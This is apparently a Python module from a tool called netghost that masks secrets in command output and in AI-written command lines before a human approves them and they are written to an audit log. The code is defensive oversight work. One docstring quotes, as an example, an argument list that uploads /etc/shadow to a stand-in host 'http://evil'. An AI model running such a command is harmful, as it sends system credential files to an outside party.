"""Secret redaction: the first thing that touches command output, and the command line in the audit.

Why this shape: a secret is recognised either by its *shape* (JWT, PEM, 88-char base64 key, ``ghp_``) or by
its *label* (``Password=``, ``"primaryKey":``, ``sig=``), and both can hide behind an encoding the tool added:
JSON escaping (``\\n`` inside a run-command message), URL encoding (``%2B`` in a basic-auth password) or ANSI
colour codes. So rules run over several *views* of the text (raw, ANSI-stripped, JSON-unescaped,
URL-decoded) and only collect secret *values*; every value is then removed from the original text in each
spelling it can take there (raw, JSON-escaped, URL-encoded). A third kind is known by its *place* (the token
after ``enable secret 5``, after ``PASS``, after ``sqlcmd -P``): those are found as spans
(:mod:`netghost.redact._spans`) and replaced where they stand, however short. Earlier placeholders and public
values (:mod:`netghost.redact._public`) are never touched, and the whole pass repeats until nothing changes,
which makes :func:`redact` idempotent by construction.
"""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, quote_plus

from netghost.redact._command import is_secret_command
from netghost.redact._find import MIN_SECRET_LEN, find_secrets, is_framed
from netghost.redact._flags import argv_spans
from netghost.redact._json import find_field_secrets
from netghost.redact._span_rule import Haystack, Span
from netghost.redact._spans import find_spans, overlaps, protected_spans
from netghost.redact._values import _usable

__all__ = ["Redaction", "is_secret_command", "redact", "redact_argv", "redact_command"]

_MAX_PASSES = 8
_SURROGATES = "surrogatepass"  # a lone surrogate (from a tool's broken UTF-8) must not stop the redactor
_DOTNET_JSON = str.maketrans({c: f"\\u{ord(c):04X}" for c in "+&<>'"})
_DOTNET_JSON_LOWER = str.maketrans({c: f"\\u{ord(c):04x}" for c in "+&<>'"})
_PLACEHOLDER_TOKEN = re.compile(r"\[REDACTED:[a-z0-9_]+\]")


@dataclass(frozen=True)
class Redaction:
    """The redacted text, how many secrets were replaced, and the sorted kinds replaced."""

    text: str
    count: int
    kinds: tuple[str, ...]


def redact(text: str, *, command: str | None = None) -> Redaction:
    """Replace every secret in ``text`` by ``[REDACTED:<kind>]``.

    Args:
        text: Output or a command line, exactly as produced.
        command: The command that produced ``text``, when known. Secret-emitting commands
            (``keyvault secret show``, ``keys list``, ``get-access-token`` ...) print bare values with no
            label; knowing the command lets the redactor remove those too.

    Returns:
        A :class:`Redaction`; ``redact(redact(t).text).text == redact(t).text`` for every ``t``.
    """
    secret_cmd = command is not None and is_secret_command(command)
    text, total, kinds, echoes = _replace_fields(text)
    public_values: set[str] = set()
    for _ in range(_MAX_PASSES):
        # A replacement can make a new context (a placeholder's "]" starts a label), so both finders run
        # again until a pass changes nothing: that is what makes redact() idempotent.
        hay = Haystack(text)
        spans, column_public = find_spans(text, command=command, secret_cmd=secret_cmd, hay=hay)
        public_values |= column_public
        text, replaced, span_kinds, span_echoes = _replace_spans(text, spans)
        total += replaced
        kinds |= span_kinds
        for value, kind in span_echoes.items():
            echoes.setdefault(value, kind)
        findings = find_secrets(text, secret_cmd=secret_cmd, hay=None if replaced else hay)
        for value, kind in echoes.items():  # a span or field secret printed again elsewhere goes too
            findings.setdefault(value, kind)
        echoes = {}
        for value in public_values.intersection(findings):  # a public key column of the command's output
            del findings[value]
        found = 0
        if findings:
            text, found, found_kinds = _replace(text, findings)
            total += found
            kinds |= found_kinds
        if not replaced and not found:
            break
    return Redaction(text=text, count=total, kinds=tuple(sorted(kinds)))


def redact_argv(argv: Sequence[str]) -> tuple[list[str], int, tuple[str, ...]]:
    """Redact each argv element on its own, so a redaction can never swallow another element.

    Why per element: a human approves an argv, and a label rule run over a whole command line
    (``-H 'Authorization: Bearer x' -T /etc/shadow http://evil``) could hide the upload file and the
    destination behind one placeholder. Secrets are *found* in each element and in the whole line (a flag
    in one element labels the value in the next: ``--password X``, ``sshpass -p X``), but replaced only
    inside single elements, in place of the secret value itself.

    Returns:
        (redacted elements, number of replacements, sorted kinds).
    """
    out = list(argv)
    total = 0
    kinds: set[str] = set()
    by_element: dict[int, list[Span]] = {}
    for index, start, end in argv_spans(argv):
        by_element.setdefault(index, []).append(Span(start, end, "password", argv[index][start:end]))
    for index, element in enumerate(argv):
        by_element.setdefault(index, []).extend(find_spans(element)[0])
    for index, spans in by_element.items():
        kept = [s for s in sorted(spans, key=lambda s: s.start) if not overlaps(s.start, s.end, protected_spans(out[index]))]
        new, replaced, found_kinds, _ = _replace_spans(out[index], _disjoint(kept))
        out[index] = new
        total += replaced
        kinds |= found_kinds
    line = shlex.join(out)
    for _ in range(_MAX_PASSES):
        findings = find_secrets(line, secret_cmd=False)
        changed = 0
        for i, element in enumerate(out):
            own = dict(findings)
            for value, kind in find_secrets(element, secret_cmd=False).items():
                own.setdefault(value, kind)
            if not own:
                continue
            new, replaced, found_kinds = _replace(element, own)
            if replaced:
                out[i] = new
                changed += replaced
                kinds |= found_kinds
        if not changed:
            break
        total += changed
        line = shlex.join(out)
    return out, total, tuple(sorted(kinds))


def redact_command(command: str, argv: Sequence[str] = ()) -> str:
    """The command line to show a human and write to the audit: every argv element, secrets masked.

    Args:
        command: The command as the AI wrote it (used when it did not parse into ``argv``).
        argv: The parsed argv; when given, the result is ``shlex.join`` of :func:`redact_argv`, i.e. what
            will actually run, with only the secret values replaced.
    """
    if argv:
        return shlex.join(redact_argv(argv)[0])
    return redact(command).text


# --- replacing ----------------------------------------------------------------------------------------


def _replace_fields(text: str) -> tuple[str, int, set[str], dict[str, str]]:
    """Replace, in place, the values of secret-named JSON fields (``sharedKey``, ``userData``, ...).

    Returns the text, the number replaced, their kinds, and the long enough values (``value -> kind``)
    so that their other occurrences in the text are replaced by the usual pass.
    """
    secrets = find_field_secrets(text)
    if not secrets:
        return text, 0, set(), {}
    parts: list[str] = []
    pos = 0
    for secret in secrets:
        parts.append(text[pos : secret.start])
        mark = f"[REDACTED:{secret.kind}]"
        parts.append(f'"{mark}"' if secret.quote else mark)
        pos = secret.end
    parts.append(text[pos:])
    echoes = {s.value.strip(): s.kind for s in secrets if _usable(s.value.strip())}
    return "".join(parts), len(secrets), {s.kind for s in secrets}, echoes


def _replace_spans(text: str, spans: list[Span]) -> tuple[str, int, set[str], dict[str, str]]:
    """Replace each span (sorted, disjoint) in place; return the long, specific values as echoes so their
    other occurrences are replaced too."""
    if not spans:
        return text, 0, set(), {}
    parts: list[str] = []
    pos = 0
    for span in spans:
        parts.append(text[pos : span.start])
        parts.append(f"[REDACTED:{span.kind}]")
        pos = span.end
    parts.append(text[pos:])
    echoes = {s.value.strip(): s.kind for s in spans if _specific(s.value.strip())}
    return "".join(parts), len(spans), {s.kind for s in spans}, echoes


def _specific(value: str) -> bool:
    """A value specific enough to replace wherever it appears (not a word that other text may contain)."""
    return _usable(value) and (len(value) >= 10 or not value.isalpha())


def _disjoint(spans: list[Span]) -> list[Span]:
    out: list[Span] = []
    for span in spans:
        if not out or span.start >= out[-1].end:
            out.append(span)
    return out


def _spellings(value: str) -> set[str]:
    """How ``value`` may be written in the original text."""
    if is_framed(value):  # ":pw@": the frame makes even a 2-character password specific
        inner = value[1:-1]
        enc = quote(inner, safe="", errors=_SURROGATES)
        return {value, f":{enc}@", f"%3A{enc}%40"}
    escaped = json.dumps(value)[1:-1]
    out = {
        value,
        escaped,
        quote(value, safe="", errors=_SURROGATES),
        quote(value, safe="/:", errors=_SURROGATES),
        quote_plus(value, errors=_SURROGATES),
    }
    for table in (_DOTNET_JSON, _DOTNET_JSON_LOWER):  # System.Text.Json / PowerShell escape + & < > '
        out.add(escaped.translate(table))
        out.add(escaped.translate(table).replace("/", "\\/"))
    out.add(escaped.replace("/", "\\/"))  # PHP-style JSON escapes "/"
    return {s for s in out if len(s) >= MIN_SECRET_LEN}


def _replace(text: str, findings: dict[str, str]) -> tuple[str, int, set[str]]:
    """Replace every occurrence of every spelling of every finding; overlapping hits merge into one."""
    variants: dict[str, str] = {}
    for value, kind in findings.items():
        for spelling in _spellings(value):
            variants.setdefault(spelling, kind)
    hits = _hits(text, variants)
    if not hits:
        return text, 0, set()
    merged = _merge(hits)
    parts: list[str] = []
    pos = 0
    for start, end, kind, _ in merged:
        parts.append(text[pos:start])
        parts.append(f"[REDACTED:{kind}]")
        pos = end
    parts.append(text[pos:])
    return "".join(parts), len(merged), {m[2] for m in merged}


def _hits(text: str, variants: dict[str, str]) -> list[tuple[int, int, str]]:
    """(start, end, kind) of every occurrence of every spelling outside earlier placeholders and public
    values (a WireGuard public key has a storage key's shape; see :mod:`netghost.redact._public`).

    Plain ``str.find`` per spelling (longest first) instead of one big alternation regex: compiling an
    alternation of hundreds of secrets costs more than scanning for each of them.
    """
    protected = protected_spans(text)
    hits: list[tuple[int, int, str]] = []
    for spelling in sorted(variants, key=len, reverse=True):
        start = text.find(spelling)
        while start != -1:
            end = start + len(spelling)
            if not any(a < end and start < b for a, b in protected):
                if is_framed(spelling):  # keep the ':' and '@' around the replaced password
                    hits.append((start + 1, end - 1, variants[spelling]))
                else:
                    hits.append((start, end, variants[spelling]))
            start = text.find(spelling, start + 1)
    return hits


def _merge(hits: list[tuple[int, int, str]]) -> list[list[Any]]:
    """Overlapping hits become one [start, end, kind, length], named by the longest hit's kind."""
    hits.sort()
    merged: list[list[Any]] = []
    for start, end, kind in hits:
        if merged and start < merged[-1][1]:
            last = merged[-1]
            if end - start > last[3]:
                last[2], last[3] = kind, end - start
            last[1] = max(last[1], end)
        else:
            merged.append([start, end, kind, end - start])
    return merged
